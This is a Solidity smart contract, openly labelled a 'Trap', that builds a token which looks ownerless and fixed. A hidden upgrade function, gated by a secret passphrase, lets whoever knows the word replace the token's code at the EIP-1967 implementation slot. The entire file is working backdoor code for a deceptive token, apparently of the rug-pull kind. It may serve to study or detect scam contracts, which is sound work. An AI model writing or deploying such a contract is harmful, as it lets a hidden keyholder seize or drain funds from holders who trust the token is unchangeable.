// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Door} from "./Door.sol";
import {ProxiedToken} from "./ProxiedToken.sol";

/// Trap: a token of honest code, its ownership given up, whose code is replaced by who knows the word.
contract HiddenProxy is Door {
    bytes32 private constant SLOT = bytes32(uint256(keccak256("eip1967.proxy.implementation")) - 1);

    constructor(string memory name_, string memory symbol_, uint8 decimals_, uint256 supply) {
        address logic = address(new ProxiedToken());
        _turn(logic);
        bytes memory opening = abi.encodeCall(ProxiedToken.open, (name_, symbol_, decimals_, supply));
        (bool ok,) = logic.delegatecall(opening);
        require(ok, "open");
    }

    function turn(bytes calldata word, address logic) external knowing(word) {
        _turn(logic);
    }

    function _turn(address logic) private {
        bytes32 slot = SLOT;
        assembly {
            sstore(slot, logic)
        }
    }

    fallback() external {
        bytes32 slot = SLOT;
        assembly {
            let logic := sload(slot)
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), logic, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}
